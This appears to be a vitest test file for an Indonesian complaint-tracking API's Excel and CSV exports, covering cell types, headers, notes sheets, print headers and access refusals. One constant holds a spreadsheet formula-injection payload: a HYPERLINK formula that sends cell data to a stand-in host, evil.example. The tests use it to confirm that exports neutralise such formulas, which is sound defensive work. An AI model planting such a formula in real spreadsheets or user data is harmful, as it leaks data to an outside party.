/**
 * Central's two spreadsheets as Excel workbooks (`GET /v1/stats/agencies.xlsx`,
 * `GET /v1/exports/cases.xlsx`), through the app on DynamoDB Local, read back with exceljs as
 * Excel would open them: every cell says what the same period's CSV says, numbers are number
 * cells (Excel shows them in the reader's locale: `66,67` in Indonesian), times are date cells
 * shown as the CSV writes them, and a subject written as a formula is a text cell.
 */
import { AGENCY_STATS_COLUMNS, CASE_SHEET_COLUMNS, CENTRAL_TENANT, Service } from '@pantau/core';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  addAgencies,
  centralOfficer,
  forwardedCase,
  freshStore,
  manualClock,
  officerOf,
} from '../../../test/support/dynamodb.ts';
import { testIssuer } from '../../../test/support/tokens.ts';
import { createApp } from './app.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
const MARCH = 'from=2026-03-01&to=2026-03-31';
const NOW = '2026-03-10T03:00:00.000Z';

let app: ReturnType<typeof createApp>;
let central: string;
let agency: string;

beforeAll(async () => {
  const { verifier, bearer } = await testIssuer();
  central = await bearer({ sub: 'o1', agency: CENTRAL_TENANT, role: 'central_officer' });
  agency = await bearer({ sub: 'p1', agency: 'polri', role: 'agency_coordinator' });
  const store = await freshStore();
  // Tuesday 10 March 2026, 10:00 WIB.
  const clock = manualClock(NOW);
  app = createApp({ store, verifier, clock: clock.now });
  const service = new Service({ store, clock: clock.now });
  await addAgencies(service, [{ id: 'polri' }, { id: 'pln' }]);
  // Three cases forwarded to polri, two of them answered: a response rate of 66.67 %.
  const answered = [];
  for (let i = 0; i < 2; i += 1) answered.push((await forwardedCase(service, ['polri'])).caseId);
  const injected = await service.createCase(centralOfficer, {
    channel: 'email',
    complainant: { name: 'Pengadu' },
    subject: INJECTED,
    description: 'Uraian',
  });
  await service.verifyCase(centralOfficer, injected.id, { decision: 'accept', type: 'normative' });
  await service.forward(centralOfficer, injected.id, {
    assignments: [{ agencyId: 'polri' }, { agencyId: 'pln' }],
  });
  for (const id of answered)
    await service.respond(officerOf('polri'), id, 'polri', {
      kind: 'progress',
      message: 'Ditangani.',
    });
}, 60_000);

const get = (path: string, token = central) =>
  app.request(path, { headers: { authorization: token } });

async function workbookOf(res: Response) {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe(XLSX);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  // The table, then what the file counts (its period…): see the notes' tests below.
  expect(workbook.worksheets).toHaveLength(2);
  // Written at the API's "now" (the manual clock here), as Excel's properties show it.
  expect(workbook.created).toEqual(new Date(NOW));
  expect(workbook.modified).toEqual(new Date(NOW));
  return workbook.worksheets[0]!;
}

/** The rows of the same period's CSV, each cell as written (exceljs's CSV reader, no guessing). */
async function csvRows(path: string): Promise<string[][]> {
  const res = await get(path);
  expect(res.status).toBe(200);
  const sheet = await new ExcelJS.Workbook().csv.read(
    Readable.from([(await res.text()).replace(/^\uFEFF/, '')]),
    { map: (value: unknown) => value },
  );
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
  return rows;
}

/** A cell as Excel shows it through its number format (the formats the workbook uses). */
function shown(cell: ExcelJS.Cell): string {
  const value = cell.value;
  if (value === null || value === undefined) return '';
  if (value instanceof Date) {
    expect(cell.numFmt).toBe('yyyy-mm-dd hh:mm');
    // A date cell holds the wall clock; exceljs reads it back as that time in UTC.
    return value.toISOString().slice(0, 16).replace('T', ' ');
  }
  if (typeof value === 'number') return cell.numFmt === '0.00' ? value.toFixed(2) : String(value);
  expect(typeof value).toBe('string');
  return value as string;
}

/** Every row of the sheet as shown, the header first. */
function shownRows(sheet: ExcelJS.Worksheet, width: number): string[][] {
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) =>
    rows.push(Array.from({ length: width }, (_, i) => shown(row.getCell(i + 1)))),
  );
  return rows;
}

/** The header row is bold and stays in view; each column is wide enough for its title. */
function expectReadableHeader(sheet: ExcelJS.Worksheet, columns: readonly string[]) {
  const header = sheet.getRow(1);
  expect((header.values as unknown[]).slice(1)).toEqual(columns);
  columns.forEach((title, i) => {
    expect(header.getCell(i + 1).font?.bold).toBe(true);
    expect(sheet.getColumn(i + 1).width).toBeGreaterThanOrEqual(Math.min(title.length, 50));
  });
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
}

describe('the statistics as an Excel workbook', () => {
  it('says what the CSV says, with counts and rates as numbers and a readable header', async () => {
    const res = await get(`/v1/stats/agencies.xlsx?${MARCH}`);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="pantau-agencies-2026-03-01-2026-03-31.xlsx"',
    );
    const sheet = await workbookOf(res);
    expect(sheet.name).toBe('Statistik instansi');
    expectReadableHeader(sheet, AGENCY_STATS_COLUMNS);
    const csv = await csvRows(`/v1/stats/agencies.csv?${MARCH}`);
    expect(shownRows(sheet, AGENCY_STATS_COLUMNS.length)).toEqual(csv);
    // polri's row: counts are number cells; the rate is a number shown with two decimals,
    // which Excel writes with the reader's decimal separator.
    const polri = sheet.getRow(csv.findIndex((r) => r[0] === 'Agency polri') + 1);
    const cell = (column: (typeof AGENCY_STATS_COLUMNS)[number]) =>
      polri.getCell(AGENCY_STATS_COLUMNS.indexOf(column) + 1);
    expect(cell('Diteruskan').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('Diteruskan').value).toBe(3);
    expect(cell('Tingkat tanggapan (%)').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('Tingkat tanggapan (%)').value).toBe(66.67);
    expect(cell('Tingkat tanggapan (%)').numFmt).toBe('0.00');
    expect(cell('Di bawah sampel minimum').value).toBe('Ya');
    // No rank (below the minimum sample): an empty cell, as in the CSV.
    expect(cell('Peringkat').value).toBeNull();
    expect(sheet.lastRow!.getCell(1).value).toBe('Semua instansi');
  });
});

describe('the cases as an Excel workbook', () => {
  it('says what the CSV says, a subject written as a formula being a text cell', async () => {
    const res = await get(`/v1/exports/cases.xlsx?${MARCH}`);
    // Named with its period, as the statistics' file is: two months' downloads do not clash.
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="pantau-cases-2026-03-01-2026-03-31.xlsx"',
    );
    const sheet = await workbookOf(res);
    expect(sheet.name).toBe('Pengaduan');
    expectReadableHeader(sheet, CASE_SHEET_COLUMNS);
    const csv = await csvRows(`/v1/exports/cases.csv?${MARCH}`);
    // The CSV's only difference: its leading quote, which keeps a spreadsheet from running the
    // subject as a formula (the workbook's text cell needs none).
    const unquoted = csv.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@])/, '')));
    expect(shownRows(sheet, CASE_SHEET_COLUMNS.length)).toEqual(unquoted);
    expect(sheet.rowCount).toBe(1 + 3);

    const subject = CASE_SHEET_COLUMNS.indexOf('Perihal') + 1;
    const injected = sheet.getRow(2); // newest first: the last registered
    expect(injected.getCell(subject).type).toBe(ExcelJS.ValueType.String);
    expect(injected.getCell(subject).value).toBe(INJECTED);
    expect(injected.getCell(subject).formula).toBeUndefined();
    expect(injected.getCell(CASE_SHEET_COLUMNS.indexOf('Instansi terkait') + 1).value).toBe(
      'Agency pln; Agency polri',
    );
    // Received 10:00 WIB, a date cell of that wall clock.
    const received = injected.getCell(2);
    expect(received.type).toBe(ExcelJS.ValueType.Date);
    expect(received.value).toEqual(new Date('2026-03-10T10:00:00.000Z'));
    expect(shown(received)).toBe('2026-03-10 10:00');
    // No case closed: the closing columns are empty cells.
    expect(injected.getCell(CASE_SHEET_COLUMNS.length).value).toBeNull();
  });

  it('keeps one agency’s cases only with `agencyId`', async () => {
    const res = await get(`/v1/exports/cases.xlsx?${MARCH}&agencyId=pln`);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="pantau-cases-pln-2026-03-01-2026-03-31.xlsx"',
    );
    const sheet = await workbookOf(res);
    expect(sheet.rowCount).toBe(1 + 1);
    expect(sheet.getRow(2).getCell(CASE_SHEET_COLUMNS.indexOf('Perihal') + 1).value).toBe(INJECTED);
  });
});

/** The workbook's sheet of notes, as label and value shown. */
async function notesOf(res: Response): Promise<string[][]> {
  expect(res.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  // The table stays the first sheet, as it was: the notes come after it.
  expect(workbook.worksheets.map((s) => s.name)).toEqual([
    expect.stringMatching(/^(Statistik instansi|Pengaduan)$/),
    'Keterangan',
  ]);
  return shownRows(workbook.worksheets[1]!, 2);
}

describe('a workbook forwarded on, read without the file name', () => {
  it('says which period it counts, when it was counted and the minimum sample', async () => {
    expect(await notesOf(await get(`/v1/stats/agencies.xlsx?${MARCH}`))).toEqual([
      ['Laporan', 'Statistik kinerja instansi'],
      ['Periode (tanggal WIB)', '1 Maret 2026 s.d. 31 Maret 2026'],
      ['Dihitung pada (WIB)', '2026-03-10 10:00'],
      ['Sampel minimum untuk diperingkat', '5'],
      [
        'Sampel',
        'diteruskan − bukan kewenangan − ditarik sebelum tenggat; instansi dengan sampel di bawah minimum tidak diperingkat',
      ],
      [
        'Peringkat',
        'menurut tingkat tanggapan, lalu tingkat tepat waktu (sama keduanya, sama peringkatnya); hanya bila sedikitnya dua instansi mencapai sampel minimum',
      ],
    ]);
  });

  it('says the period of the cases (the year so far when none is asked) and the agency', async () => {
    expect(await notesOf(await get('/v1/exports/cases.xlsx?agencyId=pln'))).toEqual([
      ['Laporan', 'Pengaduan yang diterima'],
      ['Periode (tanggal WIB)', '1 Januari 2026 s.d. 10 Maret 2026'],
      ['Dihitung pada (WIB)', '2026-03-10 10:00'],
      ['Instansi', 'Agency pln'],
    ]);
  });
});

/** The print header and footer of the workbook's table sheet, as Excel stores them. */
async function printedOf(res: Response) {
  expect(res.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  const [table, notes] = workbook.worksheets;
  // The notes' sheet is read on screen, not printed for the Deputy: no header of its own.
  expect(notes!.headerFooter?.oddHeader ?? null).toBeNull();
  return table!.headerFooter;
}

describe('a workbook printed', () => {
  it('heads each page of the statistics with the report and its period, and numbers the pages', async () => {
    const printed = await printedOf(await get(`/v1/stats/agencies.xlsx?${MARCH}`));
    expect(printed.oddHeader).toBe(
      '&C&BStatistik kinerja instansi&B\n1 Maret 2026 s.d. 31 Maret 2026',
    );
    expect(printed.oddFooter).toBe('&CHalaman &P dari &N');
  });

  it('heads the cases with their agency and period (the year so far when none is asked)', async () => {
    const printed = await printedOf(await get('/v1/exports/cases.xlsx?agencyId=pln'));
    expect(printed.oddHeader).toBe(
      '&C&BPengaduan yang diterima: Agency pln&B\n1 Januari 2026 s.d. 10 Maret 2026',
    );
  });
});

describe('the cases as CSV', () => {
  it('is named with its period, the year so far resolved when none is asked', async () => {
    const disposition = async (query: string) =>
      (await get(`/v1/exports/cases.csv${query}`)).headers.get('content-disposition');
    expect(await disposition(`?${MARCH}`)).toBe(
      'attachment; filename="pantau-cases-2026-03-01-2026-03-31.csv"',
    );
    expect(await disposition('?agencyId=pln')).toBe(
      'attachment; filename="pantau-cases-pln-2026-01-01-2026-03-10.csv"',
    );
  });
});

describe('the workbooks’ refusals, as the CSVs’', () => {
  it.each(['/v1/stats/agencies.xlsx', '/v1/exports/cases.xlsx'])(
    '%s: an agency is refused, and a wrong query names its field',
    async (path) => {
      const problem = async (res: Response, status: number) => {
        expect(res.status).toBe(status);
        expect(res.headers.get('content-type')).toContain('application/problem+json');
        return (await res.json()) as { code: string; errors?: { path: string }[] };
      };
      expect((await problem(await get(path, agency), 403)).code).toBe('forbidden');
      for (const [query, field] of [
        ['agencyId=nope', 'agencyId'],
        ['from=2026-03-31&to=2026-03-01', 'from'],
        ['to=2026-02-30', 'to'],
      ] as const) {
        const body = await problem(await get(`${path}?${query}`), 400);
        expect(body.errors?.map((e) => e.path)).toEqual([field]);
      }
    },
  );
});
